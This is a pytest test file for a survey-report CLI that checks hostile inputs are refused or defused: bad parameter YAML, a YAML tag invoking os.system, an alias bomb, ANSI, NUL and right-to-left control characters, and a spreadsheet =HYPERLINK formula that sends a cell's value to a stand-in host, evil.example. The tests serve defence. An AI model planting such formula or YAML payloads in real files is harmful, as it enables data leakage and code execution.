"""Hostile and mistaken input to `ruse-research run` (issue 20, tests/bad_inputs/hostile/).

Every case must exit 2 with one short line on stderr naming the params file, key or value
(control characters escaped), print no traceback, leave outputs/ and the data unchanged, and
stop before any kernel starts: the kernel zygote is replaced by one that fails the test when
reached (the data checks that run while the real zygote starts still run). Only the Ctrl-C
case starts a real kernel (slow tier).
"""

from __future__ import annotations

import contextlib
import errno
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from ruse_research import cli
from ruse_research.runner import cache, guard, kernels, params, pipeline

ROOT = Path(__file__).resolve().parents[1]
CASES_DIR = Path(__file__).parent / "bad_inputs" / "hostile"

# case (params file stem) -> substrings of the one line on stderr
EXPECTED = {
    "ci_level_percent": ["params/ci_level_percent.yaml", "parameters.ci_level", "found 95",
                         "from 0.5 to 0.999", "not a percentage"],
    "min_quote_below_rule": ["parameters.min_quote", "found 3", "10 or more", "privacy rule"],
    "mapping_for_none_default": ["parameters.staff_list_size", "found a mapping", "default None"],
    "n_boot_zero": ["parameters.n_boot", "found 0", "from 100 to 100000"],
    "seed_negative": ["parameters.seed", "found -1"],
    "index": ["params/index.yaml", "run name 'index'", "outputs/index.html"],
    "index.html": ["run name 'index.html'", "outputs/index.html"],
    ".cache": ["run name '.cache'", "not a plain name"],
    "failed.en": ["run name 'failed.en'", "outputs/<run>/failed"],
    "notebook_json_list": ["notebooks/list.ipynb", "found JSON list", "expected a notebook"],
    "notebook_outside": ["notebook", "outside the project's notebooks/", "--allow-notebook"],
    "notebook_untracked": ["99_untracked.ipynb", "not tracked by git"],
    "input_outside": ["parameters.margins_path", "outside the project", "--allow-input"],
    "ansi_path": ["parameters.staff_path", "not found", "\\x1b[32mruse-research: all 8 runs ok"],
    "alias_bomb": ["params/alias_bomb.yaml", "alias bomb"],
    "params_list": ["params/params_list.yaml", "found list", "expected a mapping with keys notebook"],
    "python_tag": ["params/python_tag.yaml", "not valid YAML", "python/object/apply:os.system"],
    "duplicate_key": ["params/duplicate_key.yaml", "key 'lang' appears twice", "line 5"],
    "ci_level_nan": ["parameters.ci_level", "found nan", "expected a finite number"],
    "nul_in_path": ["parameters.staff_path", "staff.csv\\x00.txt", "not found"],
}


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*"))
            if p.is_file() and not p.relative_to(folder).parts[0].startswith(".")}


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Path:
    """A git project copy with the staff and stakeholder notebooks, data and earlier outputs."""
    root = tmp_path_factory.mktemp("hostile") / "project"
    root.mkdir()
    shutil.copy2(ROOT / "pyproject.toml", root / "pyproject.toml")
    shutil.copytree(ROOT / "data", root / "data")
    (root / "notebooks").mkdir()
    for name in ("01_staff_attitudes.ipynb", "02_stakeholder_opinions.ipynb"):
        shutil.copy2(ROOT / "notebooks" / name, root / "notebooks" / name)
    (root / "notebooks" / "list.ipynb").write_text("[1, 2, 3]\n", encoding="utf-8")
    (root / "params").mkdir()
    git = ["git", "-C", str(root), "-c", "user.email=t@example.org", "-c", "user.name=t"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "notebooks"], check=True)
    subprocess.run([*git, "commit", "-qm", "notebooks"], check=True)
    shutil.copy2(ROOT / "notebooks" / "01_staff_attitudes.ipynb", root / "notebooks" / "99_untracked.ipynb")
    earlier = root / "outputs" / "staff_attitudes.en"
    earlier.mkdir(parents=True)
    (earlier / "report.html").write_text("<html>earlier report</html>", encoding="utf-8")
    (root / "outputs" / "index.html").write_text("<html>earlier index</html>", encoding="utf-8")
    return root


@pytest.fixture
def no_kernel(monkeypatch):
    """Reaching the kernel zygote fails the test; the checks made while it starts still run."""
    @contextlib.contextmanager
    def zygote(preload, while_starting=None):
        if while_starting is not None:
            while_starting()
        raise AssertionError("a kernel would start")
        yield  # pragma: no cover

    monkeypatch.setattr(kernels, "kernel_zygote", zygote)
    monkeypatch.setattr(pipeline, "zygote_preload", lambda *args, **kwargs: ())
    monkeypatch.setattr(pipeline, "preload_heavy_modules", lambda: None)


def _put_params(project: Path, name: str, text: str) -> None:
    for old in project.glob("params/*.yaml"):
        old.unlink(missing_ok=True)
    for old in project.glob("params/.*.yaml"):
        old.unlink(missing_ok=True)
    (project / "params" / f"{name}.yaml").write_text(text, encoding="utf-8")


def _run(project: Path, monkeypatch, capsys, argv: list[str]) -> tuple[int, list[str]]:
    monkeypatch.setenv("RUSE_RESEARCH_ROOT", str(project))
    monkeypatch.chdir(project)
    capsys.readouterr()
    code = cli.main(argv)
    captured = capsys.readouterr()
    assert "Traceback" not in captured.out + captured.err
    assert "\x1b" not in captured.err
    return code, [line for line in captured.err.splitlines() if line.strip()]


def _one_line(code: int, lines: list[str]) -> str:
    assert code == 2, lines
    assert len(lines) == 1, lines
    assert len(lines[0]) <= len("ruse-research: ") + 400, lines[0]
    return lines[0]


def test_every_case_file_has_an_expectation():
    assert sorted(p.name[: -len(".yaml")] for p in CASES_DIR.iterdir() if p.is_file()) == sorted(EXPECTED)
    assert sorted(p.name for p in DATA_DIR.iterdir()) == sorted([*DATA_CASES, "cb_duplicate_keys.yaml", "rtl_override_column.csv"])


# --------------------------------------------------------------------------- hostile data files

DATA_DIR = CASES_DIR / "data"
# data file (validated against the corpus' mini codebook) -> substrings of the one line
DATA_CASES = {
    "bom_cp1251_mix.csv": ["bom_cp1251_mix.csv, row 3", "not UTF-8 in a file that is otherwise UTF-8",
                           "mixes encodings"],
    "nul_bytes.csv": ["nul_bytes.csv, row 2", "NUL bytes", "expected UTF-8 or Windows-1251 text"],
    "formula_id_hyperlink.csv": ["row 2, column 'resp_id'", "=HYPERLINK(", "not a spreadsheet formula"],
    "xlsx_empty_sheet.xlsx": ["an empty first sheet 'Sheet'", "header in row 1"],
}


@pytest.mark.parametrize("name", sorted(DATA_CASES))
def test_hostile_data_files_give_one_line(name, capsys):
    path = DATA_DIR / name
    before = path.read_bytes()
    code = cli.main(["validate", str(path), "--codebook", str(MINI)])
    captured = capsys.readouterr()
    line = _one_line(code, [x for x in captured.err.splitlines() if x.strip()])
    assert "Traceback" not in captured.err and "\x1b" not in captured.err
    for expected in DATA_CASES[name]:
        assert expected in line, (expected, line)
    assert path.read_bytes() == before


def test_a_codebook_with_a_duplicate_key_gives_one_line(capsys):
    code = cli.main(["validate", str(DATA_DIR.parent.parent / "valid.csv"), "--codebook",
                     str(DATA_DIR / "cb_duplicate_keys.yaml")])
    line = _one_line(code, capsys.readouterr().err.splitlines())
    assert "cb_duplicate_keys.yaml: line 3: key 'instrument' appears twice (first on line 2)" in line


def test_a_column_name_with_a_right_to_left_override_is_read_as_its_visible_name():
    from ruse_research.data import codebook, io

    path = DATA_DIR / "rtl_override_column.csv"
    assert "\u202e" in path.read_text(encoding="utf-8")
    frame = io.read_survey(path, codebook.load_codebook(MINI))
    assert list(frame.columns)[-1] == "comment"  # the override character is gone, not shown
    assert not any("\u202e" in str(c) for c in frame.columns)


def test_a_formula_id_is_neutralised_in_the_xlsx_and_csv_exports(tmp_path):
    import openpyxl
    import pandas as pd

    from ruse_research.display.tables import table_bundle
    from ruse_research.runner.artifacts import write_table

    formula = '=HYPERLINK("http://evil.example/?"&B2,"click")'
    data, _ = table_bundle(pd.DataFrame({"Respondent": [formula, "@SUM(A1)"], "n": [12, 30]}), "ids",
                           lang="en")
    write_table(data["application/vnd.ruse.table+json"], tmp_path)
    sheet = openpyxl.load_workbook(tmp_path / "ids.xlsx").active
    cells = [sheet.cell(row=r, column=1) for r in (3, 4)]
    assert [c.data_type for c in cells] == ["s", "s"]  # text, never a formula
    assert all(not str(c.value).startswith(("=", "@")) for c in cells)
    assert formula in str(cells[0].value)  # the text itself is kept, defused
    text = (tmp_path / "ids.csv").read_text(encoding="utf-8-sig")
    assert "\n=HYPERLINK" not in text and "\n@SUM" not in text and ',=HYPERLINK' not in text


@pytest.mark.parametrize("case", sorted(EXPECTED))
def test_hostile_params_stop_before_any_kernel(project, monkeypatch, capsys, tmp_path, no_kernel, case):
    text = (CASES_DIR / f"{case}.yaml").read_text(encoding="utf-8")
    if "@OUTSIDE@" in text:
        shutil.copy2(ROOT / "notebooks" / "01_staff_attitudes.ipynb", tmp_path / "outside.ipynb")
        shutil.copy2(ROOT / "data" / "reference" / "population_margins.csv", tmp_path / "margins.csv")
        text = text.replace("@OUTSIDE@", str(tmp_path))
    _put_params(project, case, text)
    data_before, outputs_before = _digest(project / "data"), _digest(project / "outputs")
    line = _one_line(*_run(project, monkeypatch, capsys, ["run"]))
    for expected in EXPECTED[case]:
        assert expected in line, (expected, line)
    assert _digest(project / "data") == data_before
    assert _digest(project / "outputs") == outputs_before


STAFF_RUN = "notebook: notebooks/01_staff_attitudes.ipynb\ntitle: T\nparameters:\n  lang: en\n"
STAKEHOLDER_RUN = "notebook: notebooks/02_stakeholder_opinions.ipynb\ntitle: T\nparameters:\n  lang: en\n"


def test_a_five_megabyte_value_is_refused_in_one_short_line(project, monkeypatch, capsys, no_kernel):
    _put_params(project, "huge", STAFF_RUN.replace("lang: en", "lang: " + "x" * 5_000_000))
    line = _one_line(*_run(project, monkeypatch, capsys, ["run"]))
    assert "params/huge.yaml" in line and "5,000,000" in line


def test_a_long_value_is_shortened_in_the_message(project, monkeypatch, capsys, no_kernel):
    _put_params(project, "long", STAFF_RUN.replace("lang: en", "lang: " + "de" * 200_000))
    line = _one_line(*_run(project, monkeypatch, capsys, ["run"]))
    assert "parameters.lang" in line and "more)" in line


def test_a_mirror_item_naming_no_staff_item_stops_before_any_kernel(project, monkeypatch, capsys,
                                                                      no_kernel):
    book = project / "data" / "codebooks" / "stakeholders.yaml"
    original = book.read_text(encoding="utf-8")
    book.write_text(original.replace("mirror: mir_1", "mirror: mir_99"), encoding="utf-8")
    try:
        _put_params(project, "mirror.en", STAKEHOLDER_RUN)
        line = _one_line(*_run(project, monkeypatch, capsys, ["run"]))
    finally:
        book.write_text(original, encoding="utf-8")
    assert "stakeholders.yaml" in line and "'mir_99'" in line and "staff.yaml" in line


def test_allowed_outside_notebook_is_recorded_with_its_hash(project, tmp_path):
    outside = tmp_path / "outside.ipynb"
    shutil.copy2(ROOT / "notebooks" / "01_staff_attitudes.ipynb", outside)
    _put_params(project, "outside.en", f"notebook: {outside}\ntitle: T\n")
    params_file = project / "params" / "outside.en.yaml"
    with pytest.raises(Exception, match="--allow-notebook"):
        params.load_run(params_file, root=project)
    run = params.load_run(params_file, root=project, allow_notebooks=[str(outside)])
    assert run.inputs["notebook"] == outside.resolve()
    from ruse_research.runner import plan

    store = cache.FileHashStore()
    components = plan.plan_runs([run], project, project / "outputs", store, force=True)[0].components
    assert hashlib.sha256(outside.read_bytes()).hexdigest() in components["inputs"].values()


def test_allowed_outside_input_is_still_validated(project, monkeypatch, capsys, tmp_path, no_kernel):
    margins = tmp_path / "margins.csv"
    text = (ROOT / "data" / "reference" / "population_margins.csv").read_text(encoding="utf-8")
    margins.write_text(text.replace(",sex,1,", ",no_such_item,1,", 1), encoding="utf-8")
    _put_params(project, "margins.en", STAKEHOLDER_RUN + f"  margins_path: {margins}\n")
    line = _one_line(*_run(project, monkeypatch, capsys, ["run", "--allow-input", str(margins)]))
    assert "margins.csv" in line and "no_such_item" in line
    # a good file outside the project, allowed, passes every check: the kernel would start
    margins.write_text(text, encoding="utf-8")
    with pytest.raises(AssertionError, match="a kernel would start"):
        _run(project, monkeypatch, capsys, ["run", "--allow-input", str(margins)])


def test_outputs_that_is_a_file_gives_one_line(project, monkeypatch, capsys, no_kernel):
    _put_params(project, "staff_attitudes.en", STAFF_RUN)
    outputs, aside = project / "outputs", project / "outputs-aside"
    outputs.rename(aside)
    try:
        outputs.write_text("not a folder", encoding="utf-8")
        line = _one_line(*_run(project, monkeypatch, capsys, ["run"]))
        outputs.unlink()
    finally:
        aside.rename(outputs)
    assert "outputs" in line and "is a file" in line


def test_read_only_outputs_gives_one_line(project, monkeypatch, capsys, no_kernel):
    _put_params(project, "staff_attitudes.en", STAFF_RUN)
    monkeypatch.setattr(guard.os, "access", lambda path, mode: False)  # as root, chmod is not enough
    line = _one_line(*_run(project, monkeypatch, capsys, ["run"]))
    assert "is read-only" in line


def test_disk_full_gives_one_line(project, monkeypatch, capsys, no_kernel):
    _put_params(project, "staff_attitudes.en", STAFF_RUN)

    def full(self):
        raise OSError(errno.ENOSPC, "No space left on device", str(self.store_path))

    monkeypatch.setattr(cache.FileHashStore, "save", full)
    line = _one_line(*_run(project, monkeypatch, capsys, ["run"]))
    assert "file-hashes.json" in line and "the disk is full" in line


def test_privacy_floors_are_the_disclosure_rule():
    from ruse_research.stats import disclosure

    assert guard.PRIVACY_FLOORS["min_quote"] == disclosure.MIN_QUOTE
    assert guard.PRIVACY_FLOORS["min_cell"] == disclosure.MIN_CELL


def test_every_notebook_declares_ranges_for_its_numbers():
    for path in sorted((ROOT / "notebooks").glob("[0-9][0-9]_*.ipynb")):
        nb = json.loads(path.read_text(encoding="utf-8"))
        cell = next(c for c in nb["cells"] if "parameters" in c["metadata"].get("tags", []))
        defaults = params.parse_parameters_cell("".join(cell["source"]))
        ranges = guard.declared_ranges(cell["metadata"])
        numbers = {k for k, v in defaults.items()
                   if isinstance(v, int | float) and not isinstance(v, bool)}
        assert numbers <= set(ranges), (path.name, numbers - set(ranges))
        for key, (low, high) in ranges.items():
            if key in numbers:
                assert (low is None or low <= defaults[key]) and (high is None or defaults[key] <= high)


@pytest.mark.slow
def test_ctrl_c_mid_run_exits_130_with_one_line(project, tmp_path):
    _put_params(project, "staff_attitudes.en", STAFF_RUN)
    env = {**os.environ, "RUSE_RESEARCH_ROOT": str(project), "PYTHONIOENCODING": "utf-8"}
    process = subprocess.Popen([sys.executable, "-m", "ruse_research", "run", "--force"], cwd=project,
                               env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               start_new_session=True)
    try:
        for line in process.stdout:
            if line.startswith("running "):
                break
        os.killpg(process.pid, signal.SIGINT)  # what Ctrl-C in a terminal does
        _, err = process.communicate(timeout=180)
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
    assert process.returncode == 130, err
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines == ["ruse-research: interrupted (Ctrl-C); outputs of finished runs are kept"]


def test_an_export_over_the_size_limit_is_refused_before_it_is_read(tmp_path, capsys):
    from ruse_research.data import textcheck

    big = tmp_path / "export_1m_rows.csv"
    with open(big, "wb") as handle:  # sparse: no disk space used, nothing worth parsing
        handle.write(b"resp_id,unit\n")
        handle.truncate(textcheck.MAX_FILE_BYTES + 1)
    code = cli.main(["validate", str(big), "--codebook", "staff"])
    lines = capsys.readouterr().err.splitlines()
    assert code == 2 and len(lines) == 1
    assert f"more than the {textcheck.MAX_FILE_BYTES:,} the reader takes" in lines[0]


def test_a_same_size_edit_with_the_old_mtime_is_noticed(tmp_path):
    data = tmp_path / "staff.csv"
    data.write_bytes(b"resp_id,q1\nS1,4\n")
    store = cache.FileHashStore(tmp_path / "hashes.json")
    first = store.sha256(data)
    store.save()
    before = data.stat()
    data.write_bytes(b"resp_id,q1\nS1,5\n")  # same size
    os.utime(data, ns=(before.st_atime_ns, before.st_mtime_ns))  # the old mtime put back
    assert (data.stat().st_size, data.stat().st_mtime_ns) == (before.st_size, before.st_mtime_ns)
    again = cache.FileHashStore(tmp_path / "hashes.json")
    assert again.sha256(data) == hashlib.sha256(b"resp_id,q1\nS1,5\n").hexdigest() != first


def test_a_derived_value_follows_the_content_not_the_stat(tmp_path):
    data = tmp_path / "nb.txt"
    data.write_text("one", encoding="utf-8")
    store = cache.FileHashStore()
    assert store.derived("length", data, lambda p: p.read_text()) == "one"
    before = data.stat()
    data.write_text("two", encoding="utf-8")
    os.utime(data, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert store.derived("length", data, lambda p: p.read_text()) == "two"


def _good_and_new(tmp_path: Path):
    from ruse_research.runner import publish

    outputs = tmp_path / "outputs"
    run_dir = outputs / "demo.en"
    run_dir.mkdir(parents=True)
    (run_dir / "report.html").write_text("last good", encoding="utf-8")
    (outputs / publish.STAGING).mkdir()
    stage = outputs / publish.STAGING / "demo.en-1-1"
    stage.mkdir()
    (stage / "report.html").write_text("new", encoding="utf-8")
    return publish, outputs, run_dir, stage


def test_a_failure_between_the_publish_renames_keeps_the_last_good_copy(tmp_path, monkeypatch):
    publish, outputs, run_dir, stage = _good_and_new(tmp_path)
    real, calls = os.replace, []

    def second_fails(src, dst):  # the new stage moving into place fails
        calls.append((src, dst))
        if Path(src) == stage:
            raise OSError(errno.EIO, "injected failure between the renames")
        return real(src, dst)

    monkeypatch.setattr(publish.os, "replace", second_fails)
    with pytest.raises(OSError, match="injected"):
        publish.publish(stage, run_dir, ok=True, staging_root=outputs / publish.STAGING)
    assert (run_dir / "report.html").read_text(encoding="utf-8") == "last good"


def test_a_crash_between_the_publish_renames_is_repaired_by_the_next_run(tmp_path, monkeypatch):
    publish, outputs, run_dir, stage = _good_and_new(tmp_path)
    real, calls = os.replace, []

    def crash(src, dst):  # killed once the last good copy is aside: no rename after that
        calls.append((src, dst))
        if any(Path(s) == run_dir for s, _ in calls[:-1]):
            raise SystemExit("killed")
        return real(src, dst)

    monkeypatch.setattr(publish.os, "replace", crash)
    with pytest.raises(SystemExit):
        publish.publish(stage, run_dir, ok=True, staging_root=outputs / publish.STAGING)
    monkeypatch.setattr(publish.os, "replace", real)
    assert not run_dir.exists()  # the state a killed run leaves
    publish.clear_staging(outputs)  # what the next `ruse-research run` does first, holding the lock
    assert (run_dir / "report.html").read_text(encoding="utf-8") == "last good"
    assert not (outputs / publish.STAGING).exists()


def test_a_crash_after_the_second_rename_keeps_the_new_outputs(tmp_path, monkeypatch):
    publish, outputs, run_dir, stage = _good_and_new(tmp_path)
    monkeypatch.setattr(publish.shutil, "rmtree", lambda *a, **k: (_ for _ in ()).throw(SystemExit("killed")))
    with pytest.raises(SystemExit):
        publish.publish(stage, run_dir, ok=True, staging_root=outputs / publish.STAGING)
    monkeypatch.undo()
    publish.clear_staging(outputs)
    assert (run_dir / "report.html").read_text(encoding="utf-8") == "new"
    assert not (outputs / publish.STAGING).exists()


# --------------------------------------------------------------------------- a full disk while a run is published


@pytest.fixture
def fake_kernel(monkeypatch):
    """Runs "execute" without a kernel: the executed notebook shows the tables of the returned
    dict (name -> DataFrame; a test may add some)."""
    import nbformat

    @contextlib.contextmanager
    def zygote(preload, while_starting=None):
        if while_starting is not None:
            while_starting()
        yield True

    import pandas as pd

    tables = {"scores": pd.DataFrame({"Scale": ["psm"], "n": [55]})}

    def execute_notebook(source, destination, overrides, cwd):
        from ruse_research.display.tables import table_bundle

        nb = nbformat.v4.new_notebook()
        cell = nbformat.v4.new_code_cell("report.show_table(...)")
        cell.outputs = [nbformat.v4.new_output("display_data", data=data, metadata=meta)
                        for data, meta in (table_bundle(frame, name, lang="en")
                                           for name, frame in tables.items())]
        nb.cells = [cell]
        with open(destination, "w", encoding="utf-8") as handle:
            nbformat.write(nb, handle)

    from ruse_research.runner import execute, pdf

    monkeypatch.setattr(kernels, "kernel_zygote", zygote)
    monkeypatch.setattr(pipeline, "zygote_preload", lambda *args, **kwargs: ())
    monkeypatch.setattr(pipeline, "preload_heavy_modules", lambda: None)
    monkeypatch.setattr(execute, "execute_notebook", execute_notebook)
    monkeypatch.setattr(pdf, "find_chromium", lambda: None)
    return tables


def _full(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device", "outputs/.staging/x/tables/scores.xlsx")


@pytest.mark.parametrize("where", ["writing outputs", "publishing"])
def test_a_full_disk_while_a_run_is_written_gives_one_line_and_keeps_the_last_good_copy(
        project, monkeypatch, capsys, fake_kernel, where):
    from ruse_research.runner import artifacts, publish

    _put_params(project, "staff_attitudes.en", STAFF_RUN)
    report = project / "outputs" / "staff_attitudes.en" / "report.html"
    before = report.read_text(encoding="utf-8")
    if where == "writing outputs":
        monkeypatch.setattr(artifacts, "write_table", _full)
    else:  # the new run moving into place fails; the last good copy was moved aside first
        real = os.replace

        def replace(src, dst):
            if Path(src).name.startswith("staff_attitudes.en-"):  # the stage, not the copy aside
                _full()
            return real(src, dst)

        monkeypatch.setattr(publish.os, "replace", replace)
    line = _one_line(*_run(project, monkeypatch, capsys, ["run", "--force"]))
    assert line == ("ruse-research: cannot write 'outputs/.staging/x/tables/scores.xlsx': "
                    "the disk is full; free some space and run again")
    assert report.read_text(encoding="utf-8") == before
    assert not any((project / "outputs" / publish.STAGING).glob("staff_attitudes.en-*"))


def test_publish_itself_on_a_full_disk_keeps_the_last_good_copy(tmp_path, monkeypatch):
    publish, outputs, run_dir, stage = _good_and_new(tmp_path)
    real = os.replace

    def full(src, dst):
        if Path(src) == stage:
            raise OSError(errno.ENOSPC, "No space left on device", str(dst))
        return real(src, dst)

    monkeypatch.setattr(publish.os, "replace", full)
    with pytest.raises(OSError) as caught:
        publish.publish(stage, run_dir, ok=True, staging_root=outputs / publish.STAGING)
    assert publish.is_disk_fault(caught.value)
    assert (run_dir / "report.html").read_text(encoding="utf-8") == "last good"
    assert guard.describe_os_error(caught.value).endswith("the disk is full; free some space and run again")


def test_a_read_only_file_system_while_writing_gives_one_line(project, monkeypatch, capsys, fake_kernel):
    from ruse_research.runner import artifacts

    def read_only(*args, **kwargs):
        raise OSError(errno.EROFS, "Read-only file system", "outputs/.staging/x/tables/scores.csv")

    _put_params(project, "staff_attitudes.en", STAFF_RUN)
    monkeypatch.setattr(artifacts, "write_table", read_only)
    line = _one_line(*_run(project, monkeypatch, capsys, ["run", "--force"]))
    assert "scores.csv" in line and "read-only" in line


# --------------------------------------------------------------------------- exports over the size limit

MINI = Path(__file__).parent / "bad_inputs" / "codebooks" / "mini.yaml"
MINI_HEADER = b"resp_id,gender,age,q1,q2,hours,visit,comment\n"


def test_blank_lines_over_the_row_limit_are_refused_before_parsing(tmp_path, capsys):
    from ruse_research.data import textcheck

    path = tmp_path / "too_many_rows.csv"  # a valid row, then 100,001 blank lines
    path.write_bytes(MINI_HEADER + b"R001,1,34,5,2,12.5,2019-05-14,\n" + b"\n" * (textcheck.MAX_ROWS + 1))
    code = cli.main(["validate", str(path), "--codebook", str(MINI)])
    lines = capsys.readouterr().err.splitlines()
    assert code == 2 and len(lines) == 1, lines
    assert "more than the 100,000 rows the reader takes" in lines[0] and "split larger files" in lines[0]


RSS_CHILD = """
import json, resource, sys
from ruse_research import cli
code = cli.main(["validate", sys.argv[1], "--codebook", sys.argv[2]])
print(json.dumps({"code": code, "max_rss_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}))
"""


@pytest.mark.slow  # writes and checks a million-row export in a fresh interpreter
def test_a_million_row_export_is_refused_in_one_line_within_one_gigabyte(tmp_path):
    from ruse_research.data import textcheck

    path = tmp_path / "export_1m_rows.csv"
    row = b"R%07d,1,34,5,2,12.5,2019-05-14,\n"
    with open(path, "wb") as handle:
        handle.write(MINI_HEADER)
        for start in range(0, 1_000_000, 50_000):
            handle.write(b"".join(row % i for i in range(start, start + 50_000)))
    assert path.stat().st_size < textcheck.MAX_FILE_BYTES  # the row limit refuses it, not the size
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    done = subprocess.run([sys.executable, "-c", RSS_CHILD, str(path), str(MINI)], capture_output=True,
                          text=True, env=env, timeout=600, check=False)
    result = json.loads(done.stdout.strip().splitlines()[-1])
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert result["code"] == 2 and len(lines) == 1, done.stderr[-2000:]
    assert "a file of 1,000,001 lines, more than the 100,000 rows the reader takes" in lines[0]
    assert result["max_rss_kb"] * 1024 < 1_000_000_000  # peak RSS of the validating process (Linux: KiB)


def test_a_run_hides_counts_that_its_tables_would_reveal_before_it_publishes(project, monkeypatch,
                                                                             capsys, fake_kernel):
    import pandas as pd

    from ruse_research.runner.artifacts import read_table_csv

    fake_kernel["by_position"] = pd.DataFrame({"Scale": ["psm"], "Grouped by": ["Unit"], "n": [55]})
    fake_kernel["by_unit"] = pd.DataFrame({"Scale": ["psm"] * 3, "Grouped by": ["Unit"] * 3,
                                           "Group": ["A", "B", "C"], "n": [24, 18, 11],
                                           "Mean": [3.1, 3.4, 3.2]})
    _put_params(project, "staff_attitudes.en", STAFF_RUN)
    code, lines = _run(project, monkeypatch, capsys, ["run", "--force"])
    assert code == 0 and lines == [], lines
    run = project / "outputs" / "staff_attitudes.en"
    assert read_table_csv(run / "tables" / "by_unit.csv")["n"].isna().tolist() == [False, False, True]
    record = json.loads((run / "provenance.json").read_text(encoding="utf-8"))
    assert len(record["disclosure_across_tables"]) == 1
    assert "by_unit" in record["disclosure_across_tables"][0] and "11" not in record["disclosure_across_tables"][0]
    report = (run / "report.html").read_text(encoding="utf-8")
    assert "Some numbers are hidden because" in report and ">11<" not in report
    assert ">11<" not in (run / "notebook.ipynb").read_text(encoding="utf-8")
